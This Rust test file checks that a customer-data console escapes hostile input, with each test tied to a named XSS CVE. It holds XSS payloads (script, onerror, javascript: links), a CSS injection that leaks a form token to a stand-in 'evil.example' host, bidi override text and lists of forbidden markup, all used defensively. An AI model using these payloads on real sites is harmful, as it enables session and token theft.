//! Markup that somebody with a public key, or a colleague, leaves for who looks at the console.

use serde_json::{Value, json};

use super::House;

const MARK: &str = "<img src=x onerror=alert(1)>\"'><script>alert(2)</script><svg/onload=alert(3)>";

/// Sends the calls as a visitor of the site and reads every page; no mark may stand on any.
#[track_caller]
fn no_markup(path: &str, page: &str) {
    for raw in [
        "<img src=x",
        "<script>alert",
        "<svg/onload",
        "onerror=alert(1)>\"'><",
    ] {
        assert!(!page.contains(raw), "{raw} is on {path}");
    }
    // Whatever the text: nothing inline, and no address that runs.
    for never in [
        "<style",
        " style=",
        "href=\"javascript:",
        "<iframe",
        "<object",
        "<base",
    ] {
        assert!(!page.contains(never), "{never} is on {path}");
    }
    let scripts = page.matches("<script").count();
    assert_eq!(
        scripts,
        page.matches("<script src=\"/assets/").count(),
        "{path}"
    );
}

async fn all_pages(house: &House, calls: impl IntoIterator<Item = Value>) {
    house.filo.send_public(calls).await;
    let mut pages = house.pages();
    let people = house.filo.api_get("/api/v1/customers").await;
    for person in people["data"].as_array().unwrap() {
        pages.push(format!("/people/{}", person["id"].as_str().unwrap()));
    }
    let quarantine = house.filo.api_get("/api/v1/quarantine").await;
    for row in quarantine["data"].as_array().unwrap() {
        pages.push(format!("/quarantine/{}", row["id"].as_str().unwrap()));
    }
    for path in pages {
        let page = house.page(&path).await;
        assert!(page.status.as_u16() < 500, "{path}");
        no_markup(&path, &page.text());
    }
}

/// CVE-2020-35124 (Mautic: referrer, without login, up to running code). Let through if the
/// referrer of a page view were printed raw.
#[tokio::test]
async fn cve_2020_35124_the_referrer_is_text() {
    let house = House::open().await;
    let call = json!({"type": "page", "userId": "u-1", "messageId": "1", "name": "Home",
        "properties": {"referrer": format!("https://x.example/{MARK}"), "referring_domain": MARK},
        "context": {"page": {"referrer": MARK}, "referrer": {"id": MARK, "type": MARK}}});
    all_pages(&house, [call]).await;
}

/// CVE-2024-47050 (Mautic: address of the tracked page). Let through as above.
#[tokio::test]
async fn cve_2024_47050_the_address_of_a_page_is_text() {
    let house = House::open().await;
    let call = json!({"type": "page", "userId": "u-1", "messageId": "1", "name": MARK,
        "properties": {"url": format!("https://x.example/?{MARK}"), "path": MARK, "title": MARK,
                       "search": MARK},
        "context": {"page": {"url": MARK, "title": MARK, "path": MARK}}});
    all_pages(&house, [call]).await;
}

/// CVE-2021-27911 (Mautic: names of contacts). Let through if a name were printed raw.
#[tokio::test]
async fn cve_2021_27911_names_of_people_are_text() {
    let house = House::open().await;
    let call = json!({"type": "identify", "userId": "x-1", "messageId": "1",
        "traits": {"firstName": MARK, "lastName": MARK, "name": MARK, "company": {"name": MARK},
                   "address": {"city": MARK, "street": MARK}, "title": MARK, "avatar": MARK}});
    all_pages(&house, [call]).await;
}

/// CVE-2026-21483, CVE-2025-58430 (listmonk: stored script takes an administrator's session).
/// Let through if names of events, campaigns or products were printed raw.
#[tokio::test]
async fn cve_2026_21483_names_of_events_and_campaigns_are_text() {
    let house = House::open().await;
    let order = json!({"type": "track", "event": "Order Completed", "userId": "u-1", "messageId": "2",
        "properties": {"order_id": MARK, "revenue": "10", "currency": "EUR", "coupon": MARK,
            "products": [{"sku": MARK, "name": MARK, "price": 5, "quantity": 2, "category": MARK}]}});
    let event = json!({"type": "track", "event": MARK, "userId": "u-1", "messageId": "1",
        "properties": {MARK: MARK, "label": MARK},
        "context": {"campaign": {"name": MARK, "source": MARK, "medium": MARK, "term": MARK},
                    "userAgent": MARK, "locale": MARK, "timezone": MARK, "ip": MARK,
                    "library": {"name": MARK, "version": MARK}, "device": {"type": MARK, "model": MARK}}});
    all_pages(&house, [event, order]).await;
}

/// CVE-2026-9809 (Mautic). Let through if a trait's own name were printed raw.
#[tokio::test]
async fn cve_2026_9809_names_of_traits_are_text() {
    let house = House::open().await;
    let call = json!({"type": "identify", "userId": "x-1", "messageId": "1",
        "traits": {MARK: "1", "list": [MARK, {MARK: MARK}], "number": MARK, "email": MARK,
                   "phone": MARK, "birthday": MARK}});
    all_pages(&house, [call]).await;
}

/// Identifiers are shown on the person's page and in reasons. Let through if they were raw.
#[tokio::test]
async fn cwe_79_identifiers_are_text() {
    let house = House::open().await;
    let calls = [
        json!({"type": "identify", "userId": MARK, "anonymousId": MARK, "messageId": MARK}),
        json!({"type": "group", "userId": MARK, "groupId": MARK, "messageId": "2", "traits": {"name": MARK}}),
        json!({"type": "alias", "userId": MARK, "previousId": format!("{MARK}2"), "messageId": "3"}),
        json!({"type": "track", "event": "X", "userId": "x-9", "messageId": "4", "context": {"externalIds": [
            {"id": MARK, "type": MARK, "collection": "users", "encoding": "none"}]}}),
    ];
    all_pages(&house, calls).await;
}

/// CVE-2021-27910 (Mautic: callback of a bounce). What could not be understood is shown whole to
/// whoever repairs it. Let through if quarantine showed bodies, fields or codes raw.
#[tokio::test]
async fn cve_2021_27910_what_is_in_quarantine_is_text() {
    let house = House::open().await;
    let calls = [
        json!({"type": MARK, "userId": "u-1", "messageId": "1"}),
        json!({"type": "track", "userId": "u-1", "messageId": "2", "properties": {MARK: MARK}}),
        json!({"type": "track", "event": {MARK: MARK}, "userId": "u-1", "messageId": "3"}),
        json!({"type": "track", "event": "X", "userId": "u-1", "messageId": "4", "timestamp": MARK}),
        json!({"type": "track", "event": "X", "messageId": format!("</textarea>{MARK}")}),
    ];
    all_pages(&house, calls).await;
}

/// Consents that a visitor claims. Let through if purpose, wording or proof were raw.
#[tokio::test]
async fn cwe_79_claimed_consents_are_text() {
    let house = House::open().await;
    let call = json!({"type": "track", "event": "Consent Granted", "userId": "u-1", "messageId": "1",
        "properties": {"purpose": MARK, "channel": MARK, "basis": MARK, "wording": MARK, "proof": MARK}});
    all_pages(&house, [call]).await;
}

/// A colleague with less power than who reads: notes, reasons, names of keys. Let through if what
/// staff writes were taken for safe.
#[tokio::test]
async fn cve_2025_58430_what_colleagues_write_is_text() {
    let house = House::open().await;
    let customer = format!("/api/v1/customers/{}", house.person);
    house
        .filo
        .api_post(&format!("{customer}/notes"), &json!({"text": MARK}))
        .await;
    let consent = json!({"purpose": MARK, "channel": "email", "granted": true, "wording": MARK, "proof": MARK,
               "how": MARK, "form": MARK, "page": MARK, "ip": MARK, "user_agent": MARK});
    house
        .filo
        .api_post(&format!("{customer}/consents"), &consent)
        .await;
    let other = house.filo.user("u-2").await.id.to_string();
    let pair = json!({"a": house.person, "b": other, "note": MARK});
    house.filo.api_post("/api/v1/separations", &pair).await;
    let short: String = MARK.chars().take(90).collect();
    house
        .filo
        .api_post("/api/v1/sources", &json!({"name": short, "kind": "public"}))
        .await;
    house
        .filo
        .api_post(
            "/api/v1/keys",
            &json!({"name": short, "scopes": {"read": true}}),
        )
        .await;
    all_pages(&house, []).await;
}

/// What stands in the address and comes back on the page. Let through if it were raw.
#[tokio::test]
async fn cwe_79_nothing_of_the_address_comes_back_as_markup() {
    let house = House::open().await;
    let mark: String = MARK.bytes().map(|byte| format!("%{byte:02X}")).collect();
    for path in [
        format!("/people?search={mark}"),
        format!("/people?done={mark}"),
        format!("/people?before={mark}"),
        format!("/login?key={mark}&next={mark}&done={mark}"),
        format!("/problems/{mark}"),
        format!("/settings/audit?actor={mark}&act={mark}&day={mark}"),
        format!("/people/{}/joins/preview?who={mark}", house.person),
        format!("/{mark}"),
    ] {
        no_markup(&path, &house.page(&path).await.text());
    }
}

/// An address in an event must not become a link that runs. Let through if it were made a link
/// without looking at its scheme.
#[tokio::test]
async fn cwe_79_no_address_of_an_event_runs() {
    let house = House::open().await;
    let address = "javascript:alert(document.cookie)";
    let call = json!({"type": "page", "userId": "u-1", "messageId": "1", "name": "Home",
        "properties": {"url": address, "referrer": address, "title": address},
        "context": {"page": {"url": address, "referrer": address}}});
    all_pages(&house, [call]).await;
}

/// CVE-2026-40497 (FreeScout: `<style>` in a signature sends the form's token away letter by
/// letter). Let through by raw text, or by a policy that allows styles inline or from elsewhere.
#[tokio::test]
async fn cve_2026_40497_no_style_of_theirs_is_on_a_page() {
    let house = House::open().await;
    let style = "<style>input[value^=a]{background:url(//evil.example)}</style><p/style=color:red>";
    let call = json!({"type": "identify", "userId": "x-1", "messageId": "1",
        "traits": {"firstName": style, "note": style}});
    all_pages(&house, [call]).await;
    let page = house.page("/people").await;
    let policy = page.header("content-security-policy").unwrap();
    assert!(
        policy.contains("style-src 'self';") && !policy.contains("unsafe"),
        "{policy}"
    );
}

/// Text that reorders a page (Trojan Source, CVE-2021-42574): let through if bidirectional
/// overrides reached a page.
#[tokio::test]
async fn cve_2021_42574_no_override_of_direction_is_on_a_page() {
    let house = House::open().await;
    let name = "Anna\u{202e}onnA\u{2066}\u{200f}";
    let call = json!({"type": "identify", "userId": "x-1", "messageId": "1", "traits": {"firstName": name}});
    house.filo.send_public([call]).await;
    let id = house.filo.user("x-1").await.id;
    for path in ["/people".to_owned(), format!("/people/{id}")] {
        let page = house.page(&path).await.text();
        assert!(
            !page.contains(['\u{202e}', '\u{2066}', '\u{200f}']),
            "{path}"
        );
    }
}
